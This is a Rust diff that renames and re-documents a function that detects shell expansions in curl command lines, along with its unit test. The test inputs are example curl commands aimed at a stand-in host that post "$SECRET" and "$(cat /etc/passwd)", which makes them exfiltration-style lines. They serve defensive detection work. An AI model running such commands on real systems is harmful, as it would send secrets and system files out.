@@ -1,8 +1,8 @@
-//! What a shell would put something in place of before curl sees it.
+//! Detection of shell expansions in a command line.
 
-/// What the shell would replace: `$NAME`, `${NAME}`, `$(...)` and backquotes outside of single
-/// quotes.
-pub(super) fn all(command: &str) -> Vec<String> {
+/// Finds what a shell would expand: `$NAME`, `${NAME}`, `$(...)` and backquotes outside of single
+/// quotes. Returns at most 20.
+pub(super) fn find(command: &str) -> Vec<String> {
     let mut found = Vec::new();
     let (mut single, mut double, mut escaped) = (false, false, false);
     for (at, character) in command.char_indices() {
@@ -35,11 +35,11 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_the_shell_would_put_in_is_named() {
-        // Variables and commands outside of single quotes, and the same within them.
-        let found = all(r#"curl https://a.test -d "s=$SECRET" -d t=${T} -d 'u=$U' -d v=\$V"#);
+    fn shell_expansions_outside_single_quotes_are_found() {
+        // Searches commands with variables and commands outside and inside of single quotes.
+        let found = find(r#"curl https://a.test -d "s=$SECRET" -d t=${T} -d 'u=$U' -d v=\$V"#);
         assert_eq!(found, ["$SECRET", "${T}"]);
-        let found = all(r#"curl https://a.test -d "s=$(cat /etc/passwd)" -d "t=`id`""#);
+        let found = find(r#"curl https://a.test -d "s=$(cat /etc/passwd)" -d "t=`id`""#);
         assert_eq!(found, ["$(", "`id"]);
     }
 }
